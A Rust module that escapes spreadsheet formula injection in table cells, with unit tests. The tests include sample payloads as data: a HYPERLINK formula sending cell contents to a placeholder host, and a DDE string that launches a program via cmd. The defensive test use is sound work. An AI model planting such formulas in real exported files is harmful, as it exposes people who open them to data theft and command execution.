//! Texts in tables that people open in a spreadsheet. Callers have chosen many of them, and a spreadsheet takes what begins like a
//! formula for one: it would run in the name of whoever opens the table.

use std::borrow::Cow;

/// With what a formula begins, or what some spreadsheets skip before one; the wide forms are for those that take them for the same.
const FORMULA: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// A text as it stands in a cell: with a `'` before it where it would be a formula, else as it is. A number stays one. Who reads the
/// table with a program takes one `'` away before `=`, `+`, `-`, `@`, a tab or a line break (and before further `'` that lead up to
/// one of these), and has the text that was there.
pub fn cell(text: &str) -> Cow<'_, str> {
    if text.trim_start_matches('\'').starts_with(FORMULA) && !is_number(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// Digits, with a sign or without, and with one point within them at most.
fn is_number(text: &str) -> bool {
    let unsigned = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (whole, places) = unsigned.split_once('.').unwrap_or((unsigned, "0"));
    [whole, places].into_iter().all(|part| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_would_be_a_formula_is_a_text_and_all_else_stays_as_it_is() {
        #[rustfmt::skip]
        let cases = [
            ("=HYPERLINK(\"http://x/?\"&A1,\"click\")", "'=HYPERLINK(\"http://x/?\"&A1,\"click\")"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(1)", "'@SUM(1)"), ("=", "'="),
            ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\n=1", "'\n=1"), ("＝1+1", "'＝1+1"), ("-", "'-"), ("-1.", "'-1."),
            ("+1.2.3", "'+1.2.3"), ("-1e9", "'-1e9"),
            // So that one sign is taken away again, and no other.
            ("'=1", "''=1"), ("''@x", "'''@x"),
            ("-2", "-2"), ("+4.50", "+4.50"), ("0.1", "0.1"), ("", ""), ("'tis", "'tis"), ("a=1", "a=1"), (" =1", " =1"),
            ("2026-11-28T00:00:00Z", "2026-11-28T00:00:00Z"), ("{\"a\":\"=1\"}", "{\"a\":\"=1\"}"),
        ];
        for (text, expected) in cases {
            assert_eq!(cell(text), expected);
        }
    }
}
